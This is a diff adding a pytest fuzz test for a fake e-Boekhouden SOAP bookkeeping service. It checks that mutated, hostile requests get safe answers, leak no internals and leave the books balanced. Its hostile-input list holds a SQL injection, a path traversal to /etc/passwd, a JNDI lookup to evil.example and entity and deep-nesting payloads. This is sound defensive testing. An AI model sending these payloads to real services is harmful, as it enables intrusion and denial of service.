@@ -1,0 +1,208 @@
+"""Twelve thousand hostile requests: each is answered, nothing leaks, and the books stay right."""
+
+import logging
+import random
+import re
+import resource
+from collections.abc import Iterator
+
+import pytest
+from lxml import etree
+
+from fakes.eboekhouden.books import Administration
+from fakes.eboekhouden.fake import EboekhoudenFake, OpenedAdministration
+from fakes.eboekhouden.sample_messages import request as sample_request
+from fakes.eboekhouden.service import OPERATIONS
+from fakes.eboekhouden.soap import SOAP_11, SOAP_12, Version
+from tests.fakes.eboekhouden.test_soap import HOSTILE, Wire
+
+ROUNDS = 20
+REQUESTS_A_ROUND = 600
+PLACEHOLDERS = {
+    "string": ["K1", "1300", "8020", "HOOG_VERK_21", "EX", "14", "Taart", "B", "VW"],
+    "long": ["0", "1", "-1", "99999"],
+    "dateTime": ["2017-10-19T00:00:00", "0001-01-01T00:00:00"],
+    "decimal": ["82.64", "0", "-17.35"],
+    "double": ["82.64", "1E3"],
+    "boolean": ["true", "false"],
+}
+HOSTILE_TEXTS = [
+    "",
+    " ",
+    "9" * 400,
+    "1e999999",
+    "NaN",
+    "INF",
+    "-0",
+    "٣",
+    "&amp;" * 50,
+    "&#0;",
+    "&#xD800;",
+    "&undefined;",
+    "]]>",
+    "<![CDATA[<x>]]>",
+    "<!-- -->",
+    "<?xml version='1.0'?>",
+    "<x/>" * 20,
+    "\x00",
+    "￿",
+    "'; DROP TABLE mutaties; --",
+    "../../etc/passwd",
+    "${jndi:ldap://evil.example}",
+    "{{7*7}}",
+    "a" * 5000,
+    "2017-02-30",
+    "9999-12-31T23:59:59Z",
+    "0001-01-01T00:00:00+14:00",
+    "Memoriaal",
+]
+
+
+def filled(text: str, chance: random.Random) -> str:
+    """Put plausible values where a sample message has placeholders."""
+    text = re.sub(
+        r">(\w+)( or \w+)+<", lambda found: f">{chance.choice(found[0][1:-1].split(' or '))}<", text
+    )
+    return re.sub(
+        r">(string|long|dateTime|decimal|double|boolean)<",
+        lambda found: f">{chance.choice(PLACEHOLDERS[found[1]])}<",
+        text,
+    )
+
+
+def mutated(text: str, chance: random.Random) -> bytes:
+    """Break a request in one to four ways that know its grammar, or do not."""
+    for _ in range(chance.randint(1, 4)):
+        text = chance.choice(WAYS)(text, chance)
+    body = text.encode("utf-8", "surrogatepass")
+    if chance.random() < 0.15:
+        place = chance.randrange(len(body) + 1)
+        body = body[:place] + bytes([chance.randrange(256)]) + body[place + 1 :]
+    return body
+
+
+def hostile_value(text: str, chance: random.Random) -> str:
+    places = list(re.finditer(r">([^<>]*)</", text))
+    if not places:
+        return text
+    place = chance.choice(places)
+    return text[: place.start(1)] + chance.choice(HOSTILE_TEXTS) + text[place.end(1) :]
+
+
+def other_tag(text: str, chance: random.Random) -> str:
+    names = re.findall(r"<(\w[\w:]*)", text)
+    if not names:
+        return text
+    return text.replace(chance.choice(names), chance.choice([*names, "x", "soap:Header"]), 2)
+
+
+def without_a_part(text: str, chance: random.Random) -> str:
+    start = chance.randrange(len(text) + 1)
+    return text[:start] + text[start + chance.randint(1, 60) :]
+
+
+def a_part_twice(text: str, chance: random.Random) -> str:
+    places = list(re.finditer(r"<(\w+)>.*?</\1>", text, re.DOTALL))
+    if not places:
+        return text
+    part = chance.choice(places)[0]
+    return text.replace(part, part * chance.randint(2, 30), 1)
+
+
+def cut_short(text: str, chance: random.Random) -> str:
+    return text[: chance.randrange(len(text) + 1)]
+
+
+def with_attributes(text: str, chance: random.Random) -> str:
+    attribute = chance.choice(
+        [' xsi:nil="true"', ' a="1" a="2"', ' xmlns="evil"', ' xml:lang="nl"', ' xmlns:soap="x"']
+    )
+    return text.replace(">", attribute + ">", chance.randint(1, 3))
+
+
+def with_a_doctype(text: str, chance: random.Random) -> str:
+    return '<!DOCTYPE x [<!ENTITY a "aaaa">]>' + text.replace("?>", "?>", 1)
+
+
+WAYS = [
+    hostile_value,
+    hostile_value,
+    hostile_value,
+    other_tag,
+    without_a_part,
+    a_part_twice,
+    cut_short,
+    with_attributes,
+    with_a_doctype,
+]
+
+
+@pytest.fixture
+def quiet(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
+    """Fail when anything is logged: a hostile call is no event of ours."""
+    caplog.set_level(logging.INFO)
+    yield
+    assert caplog.records == []
+
+
+def envelope_of(operation: str, version: Version, wire: Wire, chance: random.Random) -> str:
+    """Return a plausible request of an operation, in the session of a wire."""
+    sample = sample_request(operation, version, "books.example").partition("\n\n")[2]
+    for name, value in (("SessionID", wire.session_id), ("SecurityCode2", wire.code_2)):
+        sample = sample.replace(f"<{name}>string</{name}>", f"<{name}>{value}</{name}>")
+    return filled(sample, chance)
+
+
+def send(wire: Wire, operation: str, version: Version, body: bytes) -> str:
+    """Send a body; return the answer's text after what must hold for every answer."""
+    answer = wire.post(operation, body, {"Content-Type": version.content_type})
+    assert answer.status_code in (200, 400, 413, 415, 500), body
+    for leak in ("Traceback", 'File "', "lxml", "spyne", "root:x:"):
+        assert leak not in answer.text, body
+    assert "unable to process request" not in answer.text, body
+    if answer.status_code in (200, 500):
+        etree.fromstring(answer.content)
+    return answer.text
+
+
+@pytest.mark.parametrize("seed", range(ROUNDS))
+def test_hostile_requests_leave_the_books_right(
+    fake: EboekhoudenFake, opened: OpenedAdministration, quiet: None, seed: int
+) -> None:
+    chance = random.Random(seed)
+    fake.settings.monthly_calls = None
+    books: Administration = opened.administration
+    wire, locked_out = Wire(fake, opened), Wire(fake, opened)
+    locked_out.code_2 = "00000000-0000-0000-0000-000000000000"
+    booked = 0
+    for number in range(REQUESTS_A_ROUND):
+        operation = chance.choice(OPERATIONS).name
+        version = chance.choice([SOAP_11, SOAP_12])
+        caller = chance.choice([wire, locked_out])
+        body = mutated(envelope_of(operation, version, caller, chance), chance)
+        if number % 40 == 0:
+            body = chance.choice(list(HOSTILE.values()))[0]
+        before = len(books.mutations)
+        text = send(caller, operation, version, body)
+        done = "<LastErrorCode></LastErrorCode>" in text
+        added = operation in ("AddMutatie", "AddFactuur") and done and caller is wire
+        booked += len(books.mutations) - before
+        assert len(books.mutations) - before in ((0, 1) if added else (0,)), body
+    assert [mutation.number for mutation in books.mutations] == list(range(1, booked + 1))
+    assert sum(books.balance(code) for code in books.accounts) == 0
+
+
+def test_memory_stays_bounded_under_the_largest_requests(
+    fake: EboekhoudenFake, opened: OpenedAdministration
+) -> None:
+    wire = Wire(fake, opened)
+    largest = b"<a>" + b"<b>x</b>" * 500_000 + b"</a>"
+    nested = b"<a>" * 1_300_000
+    for body in (largest, nested):
+        send(wire, "AddMutatie", SOAP_11, body)
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    for _ in range(20):
+        for body in (largest, nested):
+            send(wire, "AddMutatie", SOAP_11, body)
+    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    assert after < before * 1.5
